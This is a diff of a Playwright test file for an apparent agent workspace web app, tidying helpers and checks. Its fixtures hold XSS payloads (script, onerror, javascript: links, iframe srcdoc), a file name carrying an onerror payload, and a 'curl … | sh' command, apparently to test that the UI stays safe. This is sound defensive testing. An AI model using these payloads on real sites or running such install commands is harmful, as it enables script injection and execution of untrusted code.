@@ -10,14 +10,15 @@ from typing import Any
 import pytest
 from playwright.sync_api import Browser, Page, expect
 
-from browsing import Asking, asking, finished, say, show, talk, thread_of, violations, visit
+from browsing import Asking, arrived, asking, finished, say, show, talk, thread_of, violations, visit
 from serving import Served
 
 PANELS = ("Canvas", "Files", "Terminal", "Agent", "Trace", "Usage", "Approvals", "Replay")
 BOLD = "Run the command: curl https://example.com/install | sh"
 BAIT = (
-    "<script>caught()</script><img src=http://127.0.0.1:9/i onerror=caught()><style>*{background:url(http://127.0.0.1:9/s)}</style>"
-    "<svg onload=caught()></svg><a href=javascript:caught()>x</a><iframe srcdoc='<script>parent.caught()</script>'></iframe>"
+    "<script>caught()</script><img src=http://127.0.0.1:9/i onerror=caught()>"
+    "<style>*{background:url(http://127.0.0.1:9/s)}</style><svg onload=caught()></svg>"
+    "<a href=javascript:caught()>x</a><iframe srcdoc='<script>parent.caught()</script>'></iframe>"
     "[x](javascript:caught()) ![x](http://127.0.0.1:9/m)"
 )
 NAME = "<img src=x onerror=caught()>.txt"
@@ -167,7 +168,7 @@ def test_no_screen_has_a_serious_violation(browser: Browser, server: Served, fur
         for name, go in SCREENS.items():
             page.goto("/")
             page.reload()
-            page.wait_for_selector("#message")
+            arrived(page)
             go(page)
             page.wait_for_timeout(200)
             found[name] = violations(page)
@@ -214,6 +215,7 @@ def test_everything_can_be_done_with_keys(browser: Browser, server: Served, furn
         keys.press("?")
         expect(page.get_by_role("dialog", name="Keyboard shortcuts")).to_be_visible()
         keys.press("Escape")
+        expect(page.get_by_role("dialog")).to_have_count(0)
         page.locator(".items").focus()
         keys.press("k")
         expect(page.locator("article:focus")).to_have_count(1)
@@ -252,7 +254,7 @@ def test_dark_is_dark_and_stays_so(browser: Browser, server: Served, tmp_path: P
 
 
 def _brightness(page: Page) -> float:
-    colour = page.evaluate("getComputedStyle(document.body).backgroundColor")
+    colour = page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
     red, green, blue = [float(part) for part in re.findall(r"[\d.]+", colour)[:3]]
     return (red + green + blue) / 3 / 255
 
